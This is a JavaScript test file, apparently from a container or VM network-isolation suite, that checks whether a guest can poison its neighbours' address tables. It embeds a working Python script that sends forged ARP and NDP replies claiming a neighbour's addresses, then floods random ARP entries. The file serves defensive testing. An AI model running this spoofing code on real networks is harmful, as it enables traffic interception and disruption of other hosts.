// SPDX-License-Identifier: Apache-2.0
// C3: ARP and NDP lies, and a flood of invented hardware addresses. The guest has no right to send frames; here the machine's root does it in the guest's place,
// inside its namespace.
import '../lib/inside.mjs';
import assert from 'node:assert/strict';
import { after } from 'node:test';
import { bothWays } from '../lib/escape.mjs';
import { Internet, NETWORK, PUBLIC, addresses, gate, get, inside } from '../lib/internet.mjs';
import { until } from '../lib/wait.mjs';

export const without = ['net_arp'];

const internet = await Internet.start();
after(() => internet.stop());

/** "The address of the neighbour, that is me", by question and by answer, then many that nobody has. */
const LIE = String.raw`
import os, socket, struct, sys
four, six, gateway, gateway6 = (socket.inet_pton(socket.AF_INET6 if ':' in a else socket.AF_INET, a) for a in sys.argv[1:])
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); wire.bind(('eth0', 0))
own = wire.getsockname()[4]
def arp(kind, hardware, address):
    wire.send(b'\xff' * 6 + hardware + struct.pack('!HHHBBH', 0x806, 1, 0x800, 6, 4, kind) + hardware + address + bytes(6) + gateway)
def total(data):
    s = sum(struct.unpack('!%dH' % (len(data) // 2), data))
    while s >> 16: s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff
def ndp(kind, hardware, address, flags):
    body = struct.pack('!BBHI', kind, 0, 0, flags) + (gateway6 if kind == 135 else address) + bytes([1 if kind == 135 else 2, 1]) + hardware
    pseudo = address + gateway6 + struct.pack('!II', len(body), 58)
    body = body[:2] + struct.pack('!H', total(pseudo + body)) + body[4:]
    wire.send(own + hardware + struct.pack('!HIHBB', 0x86dd, 0x60000000, len(body), 58, 255) + address + gateway6 + body)
for kind in (1, 2):
    arp(kind, own, four)
for kind, flags in ((135, 0), (136, 0x60000000)):
    ndp(kind, own, six, flags)
for i in range(1500):
    arp(1, b'\x02' + os.urandom(5), bytes([10, 210]) + os.urandom(2))
`;

let neighbour;

export async function attack(box, daemon, t) {
	neighbour = await daemon.box(t, {});
	const stolen = addresses(await neighbour.init());
	const gateways = [(await box.out('ip route show default')).split(' ')[2], (await box.out('ip -6 route show default')).split(' ')[2]];
	const sent = inside(await box.init(), 'python3', '-c', LIE, ...stolen.slice(0, 2), ...gateways);
	assert.equal(sent.status, 0, sent.stderr);
	const look = () => gate(daemon, 'ip', 'neighbour').split('\n').filter(line => /dev v\d+ lladdr/.test(line));
	const learned = await until('something is learned', () => look().length > 0 && look(), 3_000).catch(() => []); // frames may wait for a busy machine
	return { succeeded: learned.length > 0, learned: learned.slice(0, 5), count: learned.length };
}

bothWays('C3 lies about hardware addresses', {
	without,
	attack,
	daemon: NETWORK,
	repelled: async () => assert.match(await neighbour.out(`(${get(PUBLIC[4])}) && (${get(PUBLIC[6])})`), /world[^]*world/, 'the neighbour notices nothing'),
});
